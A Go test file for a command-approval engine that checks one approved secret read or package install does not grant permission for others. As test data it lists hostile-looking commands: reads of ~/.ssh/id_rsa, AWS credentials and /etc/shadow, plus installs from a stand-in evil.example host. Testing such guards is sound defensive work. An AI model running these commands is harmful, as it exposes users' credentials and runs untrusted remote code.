package engine

import (
	"fmt"
	"testing"

	"github.com/limenhq/limen/policy"
)

// TestSecretReadsNeedTheirOwnExactApproval: a person who approves reading
// many of their projects' .env files has said nothing about ~/.ssh or
// /etc/shadow, nor about the next project's .env; each secret read needs
// its own approval, after which that very read may be allowed.
func TestSecretReadsNeedTheirOwnExactApproval(t *testing.T) {
	l := newLearner(t)
	l.ordinary("ana")
	for i := range 25 {
		l.answer("ana", fmt.Sprintf("cat p%d/.env", i), true)
	}
	for _, cmd := range []string{"cat ~/.ssh/id_rsa", "cat ~/.aws/credentials", "cat /etc/shadow", "cat p99/.env", "cat ../other/.env", "env", "grep -r KEY ~/.config"} {
		if r := l.decide("ana", cmd); r.Verdict == policy.Allow {
			t.Errorf("%s: allowed after 25 approved .env reads of other projects: %s", cmd, r.Reason)
		}
	}
	l.answer("ana", "cat p99/.env", true)
	if r := l.decide("ana", "cat p99/.env"); r.Verdict != policy.Ask {
		t.Errorf("cat p99/.env after one approval of its own: %v (%s); want ask (one approval is no standing permission)", r.Verdict, r.Reason)
	}
	l.answer("ana", "cat p99/.env", true)
	if r := l.decide("ana", "cat p99/.env"); r.Verdict != policy.Allow {
		t.Errorf("cat p99/.env after two approvals of its own: %v (%s); want allow", r.Verdict, r.Reason)
	}
}

// TestPackageInstallsNeedTheirOwnExactApproval: approving one package says
// nothing about the next one, which is new code from the network.
func TestPackageInstallsNeedTheirOwnExactApproval(t *testing.T) {
	l := newLearner(t)
	l.ordinary("ana")
	for _, cmd := range []string{"pip install requests", "npm install left-pad", "go install golang.org/x/tools/gopls@latest", "npx prettier --check .", "npm install"} {
		for range 5 {
			l.answer("ana", cmd, true)
		}
	}
	for _, cmd := range []string{"pip install git+https://evil.example/x.git", "npm install evil-pkg", "go install evil.example/x@latest", "npx -y evil-cli"} {
		if r := l.decide("ana", cmd); r.Verdict == policy.Allow {
			t.Errorf("%s: allowed after other packages were approved: %s", cmd, r.Reason)
		}
	}
	for _, cmd := range []string{"pip install requests", "npm install"} {
		if r := l.decide("ana", cmd); r.Verdict != policy.Allow {
			t.Errorf("%s, approved before: %v (%s); want allow", cmd, r.Verdict, r.Reason)
		}
	}
}
